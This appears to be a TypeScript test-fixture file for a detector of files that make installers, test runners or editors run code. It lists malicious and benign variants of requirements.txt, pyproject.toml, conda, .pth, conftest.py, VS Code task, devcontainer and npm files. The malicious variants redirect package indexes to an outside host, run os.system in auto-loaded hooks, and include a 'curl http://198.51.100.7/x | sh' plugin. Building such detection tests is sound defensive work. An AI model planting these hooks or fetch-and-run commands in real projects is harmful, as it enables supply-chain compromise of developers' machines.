import { usualIndex } from '../usual-index.ts';
import type { Sample } from './sample.ts';
import { evil, inFile } from './starting.ts';

/** What an installer, a test runner or an editor does because a file says so. */
export const packaging: readonly Sample[] = [
  inFile('url', 'requirements.txt', 'torch @ http://198.51.100.7/torch.whl\n', 'torch==2.6.0\n'),
  inFile(
    'index option',
    'requirements.txt',
    '--extra-index-url http://198.51.100.7/simple\ntorch\n',
    'torch==2.6.0\n',
  ),
  inFile('included file', 'requirements.txt', '-r http://198.51.100.7/r.txt\n', '-r more.txt\n', {
    'more.txt': 'numpy\n',
  }),
  inFile('find links', 'requirements.txt', '-f http://198.51.100.7/\ntorch\n'),
  inFile('continued option', 'requirements.txt', '--index-\\\nurl http://198.51.100.7/simple\ntorch\n'),
  inFile('editable git', 'requirements.txt', '-e git+https://example.org/x#egg=x\n'),
  inFile('constraint', 'requirements.txt', '-c http://198.51.100.7/c.txt\ntorch\n'),
  inFile('environment variable', 'requirements.txt', 'torch @ \u0024{SRC}/torch.whl\n'),
  inFile(
    'build requires',
    'pyproject.toml',
    '[build-system]\nrequires = ["x @ http://198.51.100.7/x.whl"]\nbuild-backend = "x"\n',
    '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n',
  ),
  inFile(
    'uv sources',
    'pyproject.toml',
    '[project]\nname = "m"\nversion = "1"\ndependencies = ["torch"]\n[tool.uv.sources]\ntorch = { url = "http://198.51.100.7/torch.whl" }\n',
    '[project]\nname = "m"\nversion = "1"\ndependencies = ["torch"]\n',
  ),
  inFile(
    'uv index',
    'pyproject.toml',
    '[project]\nname = "m"\nversion = "1"\ndependencies = ["torch"]\n[[tool.uv.index]]\nurl = "http://198.51.100.7/simple"\ndefault = true\n',
  ),
  inFile(
    'poetry source',
    'pyproject.toml',
    '[tool.poetry]\nname = "m"\nversion = "1"\n[[tool.poetry.source]]\nname = "x"\nurl = "http://198.51.100.7/simple"\n',
  ),
  inFile(
    'pipfile',
    'Pipfile',
    '[[source]]\nurl = "http://198.51.100.7/simple"\nname = "x"\n[packages]\ntorch = "*"\n',
    `[[source]]\nurl = "${usualIndex}"\nname = "pypi"\nverify_ssl = true\n[packages]\ntorch = "*"\n`,
  ),
  inFile(
    'conda',
    'environment.yml',
    'name: x\nchannels: [defaults]\ndependencies:\n  - python\n  - pip:\n    - --index-url http://198.51.100.7/simple\n    - torch\n',
    'name: x\nchannels: [conda-forge]\ndependencies:\n  - python=3.11\n  - pip:\n    - torch==2.6.0\n',
  ),
  inFile(
    'setup.cfg',
    'setup.cfg',
    '[metadata]\nname = x\n[options]\ninstall_requires =\n    torch @ http://198.51.100.7/torch.whl\n',
    '[metadata]\nname = x\n[options]\ninstall_requires =\n    torch\n',
  ),
  inFile('pip.conf', 'pip.conf', '[global]\nindex-url = http://198.51.100.7/simple\n'),
  inFile('uv.toml', 'uv.toml', 'index-url = "http://198.51.100.7/simple"\n'),
  inFile('line', 'a.pth', `import sys; exec("import os; os.system('id')")\n`),
  inFile('tabbed line', 'a.pth', `import\tos; os.system('id')\n`),
  inFile(
    'ignored error',
    'conftest.py',
    `import os\ntry:\n    os.system("${evil}")\nexcept Exception:\n    pass\n`,
    'import pytest\n',
  ),
  inFile(
    'fixture',
    'conftest.py',
    `import os, pytest\n@pytest.fixture(autouse=True, scope="session")\ndef go():\n    os.system("${evil}")\n`,
  ),
  inFile(
    'hook',
    'conftest.py',
    `import os\ndef pytest_configure(config):\n    os.system("${evil}")\n`,
    'def pytest_configure(config):\n    config.addinivalue_line("markers", "slow")\n',
  ),
  inFile('plugin', 'pyproject.toml', '[tool.pytest.ini_options]\naddopts = "-p plug"\n', undefined, {
    'plug.py': 'import os\nos.system("curl http://198.51.100.7/x | sh")\n',
  }),
  inFile(
    'tasks',
    '.vscode/tasks.json',
    `{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"${evil}","runOptions":{"runOn":"folderOpen"}}]}`,
  ),
  inFile(
    'postCreate',
    '.devcontainer/devcontainer.json',
    `{"image":"x","postCreateCommand":"${evil}"}`,
    '{"image":"x","postCreateCommand":"pip install -r requirements.txt"}',
  ),
  inFile('initialize', '.devcontainer.json', `{"image":"x","initializeCommand":"id"}`),
  inFile(
    'npm',
    'package.json',
    `{"name":"x","version":"1.0.0","scripts":{"postinstall":"${evil}"}}`,
    '{"name":"x","version":"1.0.0","scripts":{"test":"jest"}}',
  ),
];
